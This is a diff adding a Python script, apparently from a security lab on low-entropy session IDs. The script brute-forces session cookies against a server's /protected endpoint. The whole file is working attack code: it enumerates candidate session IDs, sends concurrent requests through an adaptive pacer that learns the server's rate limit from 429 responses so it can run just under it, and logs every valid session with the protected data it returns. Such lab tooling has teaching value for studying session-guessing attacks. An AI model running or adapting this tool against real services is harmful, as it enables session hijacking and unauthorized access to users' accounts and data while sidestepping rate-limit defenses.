@@ -0,0 +1,290 @@
+"""Probe /protected with candidate session cookies as fast as the rate limiter allows.
+
+Candidates come from a file (one session ID per line) or from the whole
+session-ID space of a student (see session_enum.py). Requests share a
+keep-alive connection pool and are paced by an AIMD pacer that learns the
+server's sustainable rate from 429 responses.
+
+Usage:
+    python probe.py --student-name NAME --entropy-bits 16 [--concurrency 8]
+    python probe.py --cookies ids.txt [--duration 60]
+"""
+import argparse
+import asyncio
+import logging
+import math
+import time
+from collections import defaultdict, deque
+from datetime import datetime, timezone
+from email.utils import parsedate_to_datetime
+from itertools import islice
+from typing import AsyncIterator, Iterator, Optional
+
+import httpx
+
+from common.config import get_setting, load_config
+
+logging.basicConfig(level=logging.INFO)
+logger = logging.getLogger(__name__)
+# httpx logs every request at INFO level
+logging.getLogger("httpx").setLevel(logging.WARNING)
+
+
+# Load configuration (see common/config.py)
+settings = load_config()
+
+SERVER_NAME = get_setting(settings, "lab.low_entropy.server.name", "SERVER_NAME")
+SERVER_PORT = get_setting(settings, "lab.low_entropy.server.port", "SERVER_PORT")
+
+
+class AdaptivePacer:
+    """Space out requests with AIMD, learning the server's sustainable rate.
+
+    Every accepted request raises the rate by `increase` requests/s per
+    second of sending. A 429 pauses sending (for Retry-After when the server
+    sends it, otherwise an exponential backoff) and cuts the rate. The
+    accepted requests between two 429s divided by the time between them is
+    a lower bound on what the limiter sustains; after a 429 the rate drops to
+    `safety` times the best such figure, and above it additive increase
+    slows down by `creep`, so the limit is approached from below and only
+    probed occasionally.
+    """
+
+    def __init__(self, initial_rate: float = 1.0, increase: float = 0.2, decrease: float = 0.5,
+                 safety: float = 0.95, creep: float = 0.1, max_backoff: float = 60.0):
+        self.rate = initial_rate
+        self.increase = increase
+        self.decrease = decrease
+        self.safety = safety
+        self.creep = creep
+        self.max_backoff = max_backoff
+        self.learned_rate: Optional[float] = None
+
+        self._next_slot = time.monotonic()
+        self._paused_until = 0.0
+        self._backoff = 1.0
+        self._last_throttle: Optional[float] = None
+        self._episode_start: Optional[float] = None
+        self._accepted_since_throttle = 0
+        self.throttle_events = 0
+
+    async def acquire(self) -> float:
+        """Wait for the next send slot; returns the slot time (pass it back on 429)."""
+        while True:
+            now = time.monotonic()
+            slot = max(self._next_slot, self._paused_until, now)
+            self._next_slot = slot + 1 / self.rate
+            if slot > now:
+                await asyncio.sleep(slot - now)
+            # A 429 seen while waiting starts a pause; wait for a new slot after it
+            if time.monotonic() >= self._paused_until:
+                return slot
+
+    def on_accepted(self) -> None:
+        self._accepted_since_throttle += 1
+        self._backoff = 1.0
+        increase = self.increase
+        if self.learned_rate is not None and self.rate >= self.learned_rate * self.safety:
+            # Past the measured limit: keep probing upwards, but slowly
+            increase *= self.creep
+        self.rate += increase / self.rate
+
+    def on_throttled(self, sent_at: float, retry_after: Optional[float] = None) -> None:
+        now = time.monotonic()
+        if self._last_throttle is not None and sent_at < self._last_throttle:
+            # Sent before the previous 429 was seen: same event, already handled
+            return
+        self._last_throttle = now
+
+        if self._accepted_since_throttle:
+            # A new throttling episode: measure the cycle since the previous one
+            self.throttle_events += 1
+            if self._episode_start is not None:
+                measured = self._accepted_since_throttle / (now - self._episode_start)
+                # Each cycle (which includes a pause) underestimates the limit
+                self.learned_rate = max(measured, self.learned_rate or 0.0)
+            self._episode_start = now
+            self._accepted_since_throttle = 0
+            self.rate = self.learned_rate * self.safety if self.learned_rate else self.rate * self.decrease
+        else:
+            # Still throttled after a pause: back off further
+            self._backoff = min(self._backoff * 2, self.max_backoff)
+
+        self._paused_until = now + (retry_after if retry_after is not None else self._backoff)
+
+
+def parse_retry_after(value: Optional[str]) -> Optional[float]:
+    """Seconds to wait from a Retry-After header (delay-seconds or HTTP-date).
+
+    Returns None for a missing or malformed value, so the caller backs off
+    on its own instead of crashing.
+    """
+    if not value:
+        return None
+    try:
+        seconds = float(value)
+        return max(0.0, seconds) if math.isfinite(seconds) else None
+    except ValueError:
+        pass
+    try:
+        when = parsedate_to_datetime(value)
+    except (TypeError, ValueError):
+        return None
+    if when.tzinfo is None:
+        when = when.replace(tzinfo=timezone.utc)
+    return max(0.0, (when - datetime.now(timezone.utc)).total_seconds())
+
+
+class LatencyHistogram:
+    """Log-scale latency histogram: bucket i counts latencies in [2**(i-1), 2**i) ms."""
+
+    BUCKETS = 16  # up to ~33 s; slower requests land in the last bucket
+
+    def __init__(self):
+        self.counts = [0] * self.BUCKETS
+        self.total = 0
+        self.sum = 0.0
+
+    def record(self, seconds: float) -> None:
+        ms = seconds * 1000
+        index = min(self.BUCKETS - 1, max(0, math.ceil(math.log2(ms)) if ms > 0 else 0))
+        self.counts[index] += 1
+        self.total += 1
+        self.sum += seconds
+
+    def percentile(self, fraction: float) -> float:
+        """Upper bound (ms) of the bucket holding the given fraction of requests."""
+        target = fraction * self.total
+        seen = 0
+        for index, count in enumerate(self.counts):
+            seen += count
+            if seen >= target and count:
+                return 2.0**index
+        return float("nan")
+
+
+class Stats:
+    def __init__(self):
+        self.histograms = defaultdict(LatencyHistogram)
+
+    def record(self, outcome: str, seconds: float) -> None:
+        self.histograms[outcome].record(seconds)
+
+    def report(self, elapsed: float) -> None:
+        logger.info(f"{'outcome':>8} {'requests':>9} {'req/s':>8} {'mean ms':>8} "
+                    f"{'p50 ms<=':>9} {'p95 ms<=':>9} {'p99 ms<=':>9}")
+        for outcome, h in sorted(self.histograms.items()):
+            logger.info(
+                f"{outcome:>8} {h.total:>9} {h.total / elapsed:>8.2f} {h.sum / h.total * 1000:>8.2f} "
+                f"{h.percentile(0.50):>9.0f} {h.percentile(0.95):>9.0f} {h.percentile(0.99):>9.0f}"
+            )
+        for outcome, h in sorted(self.histograms.items()):
+            buckets = ", ".join(f"<{2**i}ms: {c}" for i, c in enumerate(h.counts) if c)
+            logger.info(f"{outcome:>8} histogram: {buckets}")
+
+
+async def batched(candidates: Iterator[str], batch_size: int = 1024) -> AsyncIterator[str]:
+    """Drain a (possibly blocking) candidate iterator in a worker thread, a batch at a time."""
+    while True:
+        batch = await asyncio.to_thread(lambda: list(islice(candidates, batch_size)))
+        if not batch:
+            return
+        for candidate in batch:
+            yield candidate
+
+
+async def probe(candidates: Iterator[str], concurrency: int, duration: Optional[float],
+                pacer: AdaptivePacer, stop_on_hit: bool = True) -> tuple[list, Stats, float]:
+    limits = httpx.Limits(max_connections=concurrency, max_keepalive_connections=concurrency)
+    stats = Stats()
+    hits = []
+    retries: deque = deque()
+    source = batched(candidates)
+    source_lock = asyncio.Lock()
+    done = asyncio.Event()
+    started = time.perf_counter()
+
+    async def next_candidate() -> Optional[str]:
+        if retries:
+            return retries.popleft()
+        async with source_lock:
+            return await anext(source, None)
+
+    async def worker(client: httpx.AsyncClient) -> None:
+        while not done.is_set():
+            session_id = await next_candidate()
+            if session_id is None:
+                return
+            sent_at = await pacer.acquire()
+            request_started = time.perf_counter()
+            try:
+                response = await client.get("/protected", cookies={"session_id": session_id})
+            except httpx.HTTPError as e:
+                stats.record("error", time.perf_counter() - request_started)
+                logger.debug(f"Request failed: {e}")
+                retries.append(session_id)
+                continue
+            stats.record(str(response.status_code), time.perf_counter() - request_started)
+
+            if response.status_code == 429:
+                pacer.on_throttled(sent_at, parse_retry_after(response.headers.get("Retry-After")))
+                retries.append(session_id)
+                continue
+
+            pacer.on_accepted()
+            if response.status_code == 200:
+                logger.info(f"Valid session {session_id}: {response.json()}")
+                hits.append((session_id, response.json()))
+                if stop_on_hit:
+                    done.set()
+
+    async with httpx.AsyncClient(base_url=f"http://{SERVER_NAME}:{SERVER_PORT}", limits=limits) as client:
+        workers = asyncio.gather(*(worker(client) for _ in range(concurrency)))
+        try:
+            # Workers may be parked in a long backoff; the deadline cancels them
+            await asyncio.wait_for(workers, duration)
+        except asyncio.TimeoutError:
+            pass
+    return hits, stats, time.perf_counter() - started
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--cookies", help="file with one candidate session ID per line")
+    parser.add_argument("--student-name", help="enumerate this student's session-ID space")
+    parser.add_argument("--entropy-bits", type=int, help="session_entropy_bits of the server")
+    parser.add_argument("--concurrency", type=int, default=8, help="requests in flight (and pooled connections)")
+    parser.add_argument("--initial-rate", type=float, default=1.0, help="starting requests per second")
+    parser.add_argument("--duration", type=float, default=None, help="stop after this many seconds")
+    parser.add_argument("--keep-going", action="store_true", help="do not stop at the first valid session")
+    args = parser.parse_args()
+
+    if args.cookies:
+        with open(args.cookies) as f:
+            candidates = (line.strip() for line in f.read().splitlines() if line.strip())
+        enumerator = None
+    elif args.student_name and args.entropy_bits:
+        from session_enum import SessionIDEnumerator
+
+        enumerator = SessionIDEnumerator(args.student_name, args.entropy_bits)
+        candidates = (session_id for _, session_id in enumerator.candidates())
+    else:
+        parser.error("either --cookies or --student-name with --entropy-bits is required")
+
+    pacer = AdaptivePacer(initial_rate=args.initial_rate)
+    try:
+        hits, stats, elapsed = asyncio.run(
+            probe(candidates, args.concurrency, args.duration, pacer, not args.keep_going)
+        )
+    finally:
+        if enumerator is not None:
+            enumerator.close()
+
+    stats.report(elapsed)
+    learned = f"{pacer.learned_rate:.2f} req/s" if pacer.learned_rate else "not measured"
+    logger.info(f"Final rate {pacer.rate:.2f} req/s, learned limit {learned}, "
+                f"{pacer.throttle_events} throttle events, {len(hits)} valid sessions")
+
+
+if __name__ == "__main__":
+    main()